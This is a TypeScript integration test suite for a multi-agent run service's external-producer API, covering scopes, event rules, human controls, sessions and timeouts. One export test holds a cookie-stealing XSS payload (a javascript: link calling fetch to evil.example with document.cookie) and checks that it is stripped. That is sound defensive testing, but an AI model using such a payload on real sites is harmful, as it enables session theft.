// External runs on a real `next start` (embedded database, memory hub): a producer with a runs-scoped key
// starts a run and posts its events; watchers see it like a built-in run (snapshot, stream, resume,
// export, sessions); each lifecycle rule broken once gets its documented error and writes nothing; people's
// controls come back to the producer; a silent producer's run fails as producer_lost.
import { mkdtempSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ownDatabase } from "@/tests/support/database";
import { inspectDatabase } from "@/tests/support/db-inspect";
import { call, type Producer, producer, runIdOf } from "@/tests/support/producer";
import { openRunStream, watchToEnd } from "@/tests/support/run-client";
import { startServer, type TestServer } from "@/tests/support/server";
import { user } from "@/tests/support/session-client";

let server: TestServer;
let p: Producer;
const dataDir = mkdtempSync(path.join(os.tmpdir(), "parley-external-"));

beforeAll(async () => {
  server = await startServer({
    env: { PARLEY_DATA_DIR: dataDir, PARLEY_TRUST_USER_HEADER: "true", PARLEY_RATE_LIMIT_SCALE: "100" },
  });
  p = producer(server, await server.apiKey(["runs"]));
});
afterAll(() => server?.stop());

const started = (turn_id: string, agent: string, model = "gpt-4o") => ({
  type: "agent.turn_started",
  data: { turn_id, agent, model },
});
const token = (turn_id: string, text: string) => ({ type: "agent.token", data: { turn_id, text } });

describe("starting an external run", () => {
  it("needs an API key with the runs scope, and answers where the events go", async () => {
    const body = { source: "external", task: "Ship it" };
    expect((await call(server, null, "POST", "/api/v1/runs", body)).status).toBe(401);
    const publisher = await server.apiKey(["publish:*"]);
    const refused = await call(server, publisher, "POST", "/api/v1/runs", body);
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe("forbidden");
    const bad = await p.start({ source: "elsewhere" });
    expect(bad.status).toBe(422);
    expect(bad.body.error.issues).toEqual([{ path: "source", message: expect.stringContaining('use "external"') }]);
    const res = await p.start({ agents: [{ name: "Planner", role: "plans", model: "gpt-4o" }] });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({
      status: "running",
      strategy: "external",
      events_url: `/api/v1/runs/${res.body.run_id}/events`,
    });
    expect(res.body.controls_url).toBe(`/api/v1/runs/${res.body.run_id}/controls`);
  });
});

describe("a producer's run", () => {
  it("reads like a built-in run: snapshot with text so far, usage and cost derived, stream resumable, export", async () => {
    const runId = runIdOf(await p.start({ task: "Plan the migration", agents: [{ name: "Planner", model: "gpt-4o" }] }));
    const first = await p.post(runId, { events: [started("t1", "Planner"), token("t1", "Step one: "), token("t1", "back up.")] });
    expect(first.status, JSON.stringify(first.body)).toBe(200);
    expect(first.body).toMatchObject({ accepted: 3, status: "running" });
    // The running turn's text is stored as it grows: a reader starting now (after a stream.reset) sees it.
    const mid = await p.snapshot(runId);
    expect(mid.body.turns[0]).toMatchObject({ agent: "Planner", status: "running", text: "Step one: back up." });
    const calls = [
      { type: "tool.invoked", data: { call_id: "c1", tool: "search", input: { q: "pg_dump" }, turn_id: "t1" } },
      { type: "tool.result", data: { call_id: "c1", success: true, output_preview: "3 results" } },
      { type: "agent.turn_completed", data: { turn_id: "t1", input_tokens: 1000, output_tokens: 2000 } },
      started("t2", "Coder", "openai:gpt-4o-mini"),
      token("t2", "Done."),
      { type: "agent.turn_completed", data: { turn_id: "t2" } },
      { type: "run.completed", data: { summary: "Migrated." } },
    ];
    expect((await p.post(runId, { events: calls })).status).toBe(200);

    const snap = (await p.snapshot(runId)).body;
    expect(snap.run).toMatchObject({ status: "completed", strategy: "external", summary: "Migrated." });
    expect(snap.turns.map((t: { agent: string }) => t.agent)).toEqual(["Planner", "Coder"]);
    expect(snap.turns[0].tools[0]).toMatchObject({ tool: "search", success: true, output_preview: "3 results" });
    // gpt-4o: $2.50 in, $10 out per million; the Coder's tokens are estimated from its text.
    expect(snap.turns[0].cost_usd).toBeCloseTo(0.0225, 6);
    expect(snap.usage.input_tokens).toBe(1000);
    expect(snap.progress).toEqual({ completed_steps: 2, total_steps: 2 });

    const all = await watchToEnd(server, runId);
    const types = all.map((e) => e.type);
    expect(types[0]).toBe("run.created");
    expect(types.at(-1)).toBe("run.completed");
    expect(types.filter((t) => t === "agent.token")).toHaveLength(3);
    expect(new Set(all.map((e) => e.id)).size).toBe(all.length);
    const cut = all[4]?.id ?? null;
    const resumed = await openRunStream(server, `/api/v1/runs/${runId}/events`, cut);
    await resumed.waitFor((r) => r.envelopes.some((e) => e.type === "run.completed"));
    expect(resumed.envelopes.map((e) => e.id)).toEqual(all.slice(5).map((e) => e.id));
    resumed.abort();

    const md = await call(server, p.key, "GET", `/api/v1/runs/${runId}/export?format=md`);
    expect(md.body).toContain("Step one: back up.");
    expect(md.body).toContain("search");
  });

  it("exports a producer's text as Markdown without its javascript: links or remote images", async () => {
    const runId = runIdOf(await p.start({ task: "Links" }));
    const text =
      "Read [the **guide**](javascript:fetch('//evil.example/'+document.cookie)) and [docs](https://docs.example).\n\n" +
      "![pixel](https://tracker.example/p.png?who=you) [x][evil]\n\n[evil]: JavaScript:alert(1)";
    const events = [
      started("t1", "Writer"),
      token("t1", text),
      { type: "agent.turn_completed", data: { turn_id: "t1" } },
      { type: "run.completed", data: { summary: "See ![chart](https://tracker.example/chart.png)" } },
    ];
    expect((await p.post(runId, { events })).status).toBe(200);
    const md = (await call(server, p.key, "GET", `/api/v1/runs/${runId}/export?format=md`)).body as string;
    expect(md).not.toMatch(/javascript:/i);
    expect(md).not.toMatch(/!\[/);
    expect(md).toContain("Read the guide and [docs](https://docs.example).");
    expect(md).toContain("[pixel](<https://tracker.example/p.png?who=you>)");
    expect(md).toContain("See [chart](<https://tracker.example/chart.png>)");
  });
});

describe("the lifecycle rules", () => {
  it("each broken once: the documented error, and nothing written or published", async () => {
    const runId = runIdOf(await p.start({ task: "Rules" }));
    expect((await p.post(runId, { events: [started("t1", "A"), token("t1", "hi")] })).status).toBe(200);
    const ok = await p.post(runId, { type: "agent.turn_completed", data: { turn_id: "t1" } });
    expect(ok.status).toBe(200);
    const broken: [string, unknown, number, string][] = [
      ["a token before its turn started", { events: [token("t9", "x"), started("t9", "A")] }, 422, "validation_failed"],
      ["an unknown turn id", { type: "agent.turn_completed", data: { turn_id: "nope" } }, 422, "validation_failed"],
      ["a token after its turn ended", token("t1", "late"), 409, "conflict"],
      ["a turn started twice", { events: [started("t2", "A"), started("t2", "A")] }, 409, "conflict"],
      ["completing with a turn running", { events: [started("t3", "A"), { type: "run.completed", data: {} }] }, 409, "conflict"],
      ["an event Parley derives", { type: "run.progress", data: {} }, 422, "validation_failed"],
      ["data that breaks its schema", { type: "agent.turn_started", data: { turn_id: "t4" } }, 422, "validation_failed"],
      [
        "a state patch that does not apply",
        { type: "run.state", data: { patch: [{ op: "remove", path: "/x" }] } },
        422,
        "validation_failed",
      ],
      ["more than 100 events", { events: Array.from({ length: 101 }, () => token("t1", "x")) }, 422, "validation_failed"],
      ["not JSON", "{", 400, "invalid_json"],
    ];
    for (const [what, body, status, code] of broken) {
      const before = await p.snapshot(runId);
      const res = await p.post(runId, body);
      expect(res.status, `${what}: ${JSON.stringify(res.body)}`).toBe(status);
      expect(res.body.error.code, what).toBe(code);
      const after = await p.snapshot(runId);
      expect(after.body.last_event_id, `${what}: nothing published`).toBe(before.body.last_event_id);
      expect(after.body.turns, `${what}: nothing written`).toEqual(before.body.turns);
    }
    const end = await p.post(runId, { type: "run.completed", data: {} });
    expect(end.status).toBe(200);
    const afterEnd = await p.post(runId, started("t5", "A"));
    expect(afterEnd.status).toBe(409);
    expect(afterEnd.body.error.message).toMatch(/already ended/);
    const heartbeat = await p.post(runId, { events: [] });
    expect(heartbeat.status).toBe(409);
    // Another key (even one allowed to stream runs in) may not feed it.
    const other = producer(server, await server.apiKey(["runs"]));
    expect((await other.post(runId, token("t1", "x"))).status).toBe(403);
    rulesRun = runId;
  });
});

let rulesRun = "";

describe("people's controls", () => {
  it("come back with each events POST and as a resumable SSE stream", async () => {
    const runId = runIdOf(await p.start({ task: "Steer me", agents: [{ name: "Writer" }] }));
    const auth = { Authorization: `Bearer ${p.key}`, "Content-Type": "application/json" };
    const act = (path: string, body?: unknown) =>
      fetch(`${server.url}/api/v1/runs/${runId}/${path}`, { method: "POST", headers: auth, body: JSON.stringify(body ?? {}) });
    const first = await p.post(runId, { events: [] });
    expect(first.body.controls).toMatchObject({ requested: null, events: [] });
    expect((await act("pause")).status).toBe(200);
    expect((await act("interjections", { content: "Shorter, please", to: "Writer" })).status).toBe(201);
    const second = await p.post(runId, { type: "run.paused", data: {} });
    expect(second.body.controls.requested).toBe("pause");
    expect(second.body.controls.events.map((e: { type: string }) => e.type)).toEqual(["control.pause", "control.note"]);
    expect(second.body.controls.events[1].data).toMatchObject({ content: "Shorter, please", to: "Writer" });
    const cursor = second.body.controls.cursor as string;
    expect((await act("resume")).status).toBe(200);
    const third = await p.post(runId, { type: "run.resumed", data: {} }, `?controls_after=${cursor}`);
    expect(third.body.controls.events.map((e: { type: string }) => e.type)).toEqual(["control.resume"]);

    // A gate the producer asks for is decided by people; the decision comes back to the producer.
    const asked = await p.post(runId, {
      events: [
        started("w1", "Writer"),
        token("w1", "Draft"),
        { type: "agent.turn_completed", data: { turn_id: "w1" } },
        { type: "run.awaiting_approval", data: { quorum: 1 } },
      ],
    });
    expect(asked.status, JSON.stringify(asked.body)).toBe(200);
    const gateId = `${runId}_g1`;
    const snapGate = (await p.snapshot(runId)).body.gates[0];
    expect(snapGate).toMatchObject({ gate_id: gateId, agent: "Writer", proposal_preview: "Draft", decision: null });
    expect((await act(`gates/${gateId}`, { decision: "redirect", note: "Shorter" })).status).toBe(200);
    const decided = await p.post(runId, { events: [] }, `?controls_after=${third.body.controls.cursor}`);
    expect(decided.body.controls.events.map((e: { type: string }) => e.type)).toEqual(["control.gate_decided"]);
    expect(decided.body.controls.events[0].data).toEqual({ gate_id: gateId, decision: "redirect", note: "Shorter" });

    const stream = await fetch(`${server.url}/api/v1/runs/${runId}/controls`, { headers: { ...auth, "Last-Event-ID": cursor } });
    expect(stream.status).toBe(200);
    const { readSse } = await import("@/tests/support/sse-reader");
    const reader = readSse(stream.body as ReadableStream<Uint8Array>);
    await reader.waitFor((r) => r.envelopes.length === 2);
    expect(reader.envelopes.map((e) => e.type)).toEqual(["control.resume", "control.gate_decided"]);
    expect((await act("cancel")).status).toBe(200);
    await reader.waitFor((r) => r.envelopes.some((e) => e.type === "control.cancel"));
    // The producer honours it; the run ends and so does the controls stream.
    expect((await p.post(runId, { type: "run.cancelled", data: { reason: "asked to" } })).status).toBe(200);
    expect(await reader.ended).toBe("end");
    const viewer = await call(server, await server.apiKey(["runs"]), "GET", `/api/v1/runs/${runId}/controls`);
    expect(viewer.status).toBe(403);
    expect((await call(server, p.key, "GET", `/api/v1/runs/${runId}/controls`)).status).toBe(409);
  });
});

describe("in a session", () => {
  it("an external run started there appears in the room for everyone", async () => {
    const owner = user(server);
    const created = await owner.create({ title: "Bring your own agents" });
    const sessionId = created.body.session_id as string;
    const guest = user(server);
    await guest.join(created.body.invite_token, "Gus");
    const room = await guest.stream(sessionId);
    const keyRes = await fetch(`${server.url}/api/v1/keys`, {
      method: "POST",
      headers: { "X-User-ID": owner.id, "Content-Type": "application/json" },
      body: JSON.stringify({ name: "producer", scopes: ["runs"] }),
    });
    const ownersProducer = producer(server, ((await keyRes.json()) as { key: string }).key);
    const runId = runIdOf(await ownersProducer.start({ task: "In the room", session_id: sessionId }));
    await room.waitFor((r) => r.envelopes.some((e) => e.type === "session.run_started"));
    const announced = room.envelopes.find((e) => e.type === "session.run_started");
    expect(announced?.data).toMatchObject({ run_id: runId, strategy: "external" });
    await room.waitFor((r) => r.envelopes.some((e) => e.type === "session.message_created"));
    room.abort();
    const listed = await call(server, null, "GET", `/api/v1/runs?session_id=${sessionId}`);
    expect(listed.status).toBe(404); // an outsider does not learn the session exists
    const asGuest = await fetch(`${server.url}/api/v1/runs?session_id=${sessionId}`, { headers: { "X-User-ID": guest.id } });
    expect(((await asGuest.json()) as { runs: { run_id: string }[] }).runs.map((r) => r.run_id)).toContain(runId);
    // An outsider's producer key cannot start runs in a session it is not in.
    const outsider = await p.start({ task: "Sneak in", session_id: sessionId });
    expect(outsider.status).toBe(404);
  });
});

describe("a silent producer", () => {
  it("fails its run as producer_lost once PARLEY_EXTERNAL_IDLE_S has passed", async () => {
    // It fails every external run in its database silent for 1 s: on PostgreSQL, a database of its own.
    const database = await ownDatabase();
    const quick = await startServer({ env: { PARLEY_EXTERNAL_IDLE_S: "1", ...database.env } });
    try {
      const q = producer(quick, await quick.apiKey(["runs"]));
      const runId = runIdOf(await q.start({ task: "Then silence" }));
      await q.post(runId, { events: [started("t1", "A"), token("t1", "half a thought")] });
      const s = await openRunStream(quick, `/api/v1/runs/${runId}/events`);
      await s.waitFor((r) => r.envelopes.some((e) => e.type === "run.failed"), 15_000);
      expect(s.envelopes.find((e) => e.type === "run.failed")?.data).toMatchObject({ error_type: "producer_lost" });
      s.abort();
      const snap = (await q.snapshot(runId)).body;
      expect(snap.run.error.error_type).toBe("producer_lost");
      expect(snap.turns[0]).toMatchObject({ status: "failed", text: "half a thought" });
      expect((await q.post(runId, token("t1", "back!"))).status).toBe(409);
    } finally {
      await quick.stop();
      await database.drop();
    }
  });
});

// Counted for the rules run alone, so it holds on CI's shared PostgreSQL as on this file's embedded database.
describe("the database afterwards", () => {
  it("holds only the accepted batches of the rules run", async () => {
    await server.stop();
    await inspectDatabase(dataDir, async (query) => {
      const [run] = await query<{ ingest_seq: number; status: string }>("SELECT ingest_seq, status FROM runs WHERE id = $1", [
        rulesRun,
      ]);
      // Three accepted batches (start + token, completion, the run's end); the ten refused ones wrote nothing.
      expect(run).toEqual({ ingest_seq: 3, status: "completed" });
      const turns = await query<{ id: string; text: string }>("SELECT id, text FROM agent_turns WHERE run_id = $1", [rulesRun]);
      expect(turns).toEqual([{ id: `${rulesRun}_t1`, text: "hi" }]);
    });
  });
});
